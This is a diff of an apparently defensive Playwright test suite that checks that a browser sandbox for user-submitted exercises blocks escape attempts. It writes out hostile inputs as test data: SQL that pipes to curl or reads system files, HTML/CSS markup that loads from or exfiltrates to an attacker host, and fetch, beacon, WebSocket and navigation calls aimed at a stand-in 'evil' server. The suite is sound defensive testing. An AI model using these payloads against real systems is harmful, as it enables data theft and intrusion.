@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import type { Frame, Page } from '@playwright/test'
 import type { ExerciseRun, RunnableExercise } from '../apps/web/src/features/exercises/running/exercise-runner.ts'
 import type { ExerciseKind, ExerciseTest } from '../packages/contract/src/exercises.ts'
@@ -29,12 +32,22 @@ const asking = (probe: string, given: Partial<ExerciseTest> = {}): Partial<Runna
 })
 
 let page: Page
-let requested: string[] = []
+/** A server that nothing may reach, and what reached it. */
+let evil = ''
+let arrived: string[] = []
+/** What our own server was asked for, runners apart, and answered. */
+let answered: string[] = []
 
-test.describe.configure({ mode: 'serial' })
+const evilServer = createServer((request, response) => {
+  arrived.push(request.url ?? '')
+  response.end()
+})
 
 // One signed-in person with something to steal, for all attacks.
 test.beforeAll(async ({ browser }) => {
+  evilServer.listen(0, '127.0.0.1')
+  await once(evilServer, 'listening')
+  evil = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}`
   page = await (await browser.newContext()).newPage()
   await signUp(page, newPerson())
   await page.evaluate(() => {
@@ -42,15 +55,19 @@ test.beforeAll(async ({ browser }) => {
     document.cookie = 'stolen=mine; path=/'
   })
   await loadRunner(page)
-  page.on('request', (request) => requested.push(request.url()))
+  page.on('response', (response) => {
+    if (!/\/exercise-cages\/|^blob:/.test(response.url())) answered.push(response.url())
+  })
 })
 
 test.afterAll(async () => {
   await page.context().close()
+  evilServer.close()
 })
 
 test.beforeEach(() => {
-  requested = []
+  arrived = []
+  answered = []
 })
 
 const run = async (work: RunnableExercise, code: string): Promise<ExerciseRun> => {
@@ -66,8 +83,8 @@ const got = async (work: RunnableExercise, code: string): Promise<unknown> => {
   return typeof text === 'string' ? JSON.parse(text) : results[0]?.error
 }
 
-/** Requests that are not the application fetching its own runners. */
-const leaks = () => requested.filter((url) => !/\/exercise-cages\/|^blob:null\//.test(url))
+/** Whatever got out. */
+const leaks = () => [...arrived, ...answered]
 
 /** Runs code and notices for how long the page could not do anything else. */
 const runWatched = async (work: RunnableExercise, code: string) => {
@@ -126,7 +143,7 @@ test.describe('JavaScript', () => {
   test('3. cannot import from our server, from elsewhere or from an address in text', async () => {
     const code = `const answer = async () => {
       const got = []
-      for (const from of [${JSON.stringify(page.url())}, 'https://evil.example/x.js', 'data:text/javascript,export default 1'])
+      for (const from of [${JSON.stringify(page.url())}, '${evil}/x.js', 'data:text/javascript,export default 1'])
         got.push(await import(from).then(() => 'imported', () => 'refused'))
       return got
     }`
@@ -217,9 +234,9 @@ test.describe('Python', () => {
 test.describe('SQL', () => {
   test('16. reaches no program, file of ours or server', async () => {
     for (const code of [
-      "COPY (SELECT 1) TO PROGRAM 'curl https://evil.example'",
-      "SELECT pg_read_file('/etc/passwd')",
-      "CREATE EXTENSION dblink; SELECT dblink_connect('host=evil.example')",
+      `COPY (SELECT 1) TO PROGRAM 'curl ${evil}'`,
+      `SELECT pg_read_file('${process.cwd()}/package.json')`,
+      "CREATE EXTENSION dblink; SELECT dblink_connect('host=127.0.0.1')",
     ]) {
       const { passed, results } = await run(exercise('sql', asking('')), code)
       expect({ passed, error: Boolean(results[0]?.error) }).toEqual({ passed: false, error: true })
@@ -243,13 +260,13 @@ test.describe('Regular expressions', () => {
 })
 
 test.describe('HTML and CSS', () => {
-  const markup = `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-    <base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/a.css"><link rel="dns-prefetch" href="//evil.example">
-    <style>@import url(https://evil.example/b.css); p { background: url(https://evil.example/c.png) } @font-face { font-family: x; src: url(https://evil.example/f.woff2) } p { font-family: x }</style>
-    <img src="https://evil.example/d.png" onerror="document.title='ran'"><script>document.title = 'ran'</script>
+  const markup = () => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">
+    <base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css"><link rel="dns-prefetch" href="${evil}">
+    <style>@import url(${evil}/b.css); p { background: url(${evil}/c.png) } @font-face { font-family: x; src: url(${evil}/f.woff2) } p { font-family: x }</style>
+    <img src="${evil}/d.png" onerror="document.title='ran'"><script>document.title = 'ran'</script>
     <svg onload="document.title='ran'"><script>document.title='ran'</script></svg><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
-    <form action="https://evil.example/form"><button autofocus onfocus="document.title='ran'">x</button></form>
-    <object data="https://evil.example/o"></object><video src="https://evil.example/v" autoplay></video>
+    <form action="${evil}/form"><button autofocus onfocus="document.title='ran'">x</button></form>
+    <object data="${evil}/o"></object><video src="${evil}/v" autoplay></video>
     <a href="javascript:document.title='ran'">x</a><p>text</p>`
 
   test('19. run no script and load nothing', async () => {
@@ -261,7 +278,7 @@ test.describe('HTML and CSS', () => {
           { ...unpassable, probe: 'count script, iframe, object, base, link', expected: '0' },
         ],
       }),
-      markup,
+      markup(),
     )
     expect(results.map(({ status }) => status)).toEqual(['passed', 'passed', 'passed'])
     expect(leaks()).toEqual([])
@@ -294,7 +311,7 @@ for (const [number, path] of [
 ] as const)
   test(`${number}. Even code that breaks into ${path} has no origin, storage, network or way out`, async () => {
     await inFrame(path, async (frame) => {
-      const found = await frame.evaluate(async () => {
+      const found = await frame.evaluate(async (evil) => {
         const attempt = async (action: () => unknown) => {
           try {
             return String(await action())
@@ -309,23 +326,23 @@ for (const [number, path] of [
           database: await attempt(() => indexedDB.open('x')),
           page: await attempt(() => parent.document.body.innerHTML),
           session: await attempt(() => fetch('/auth/get-session', { credentials: 'include' })),
-          foreign: await attempt(() => fetch('https://evil.example/')),
-          beacon: await attempt(() => navigator.sendBeacon('https://evil.example/') && 'sent'),
+          foreign: await attempt(() => fetch(`${evil}/`)),
+          beacon: await attempt(() => navigator.sendBeacon(`${evil}/`) && 'sent'),
           socket: await attempt(
             () =>
               new Promise((resolve, reject) => {
-                const socket = new WebSocket('wss://evil.example/')
+                const socket = new WebSocket(evil.replace('http', 'ws'))
                 socket.onopen = () => resolve('open')
                 socket.onerror = reject
               }),
           ),
-          popup: await attempt(() => window.open('https://evil.example/')),
+          popup: await attempt(() => window.open(`${evil}/`)),
           top: await attempt(() => {
-            top?.location.assign('https://evil.example/')
+            top?.location.assign(`${evil}/`)
             return 'left'
           }),
         }
-      })
+      }, evil)
       expect(found).toMatchObject({
         origin: 'null',
         storage: 'refused',
@@ -337,7 +354,7 @@ for (const [number, path] of [
         socket: 'refused',
         popup: 'null',
       })
-      expect(leaks().filter((url) => !url.includes('evil.example'))).toEqual([])
+      expect(leaks()).toEqual([])
     })
     expect(page.url()).toContain('localhost')
   })
@@ -345,13 +362,13 @@ for (const [number, path] of [
 test('22. A frame that leads away stays on our server', async () => {
   await inFrame('/exercise-cages/code.html', async (frame) => {
     await frame
-      .evaluate(() => {
-        location.href = 'https://evil.example/secret'
-      })
+      .evaluate((evil) => {
+        location.href = `${evil}/secret`
+      }, evil)
       .catch(() => {})
-    await expect.poll(() => page.frames().map((one) => one.url()).join()).not.toContain('evil.example')
+    await expect.poll(() => page.frames().map((one) => one.url())).not.toContain(`${evil}/secret`)
   })
-  expect(leaks().filter((url) => url.includes('evil.example/secret'))).toEqual([])
+  expect(leaks()).toEqual([])
 })
 
 test('23. A message posted to the page from a frame is heard by nobody', async () => {
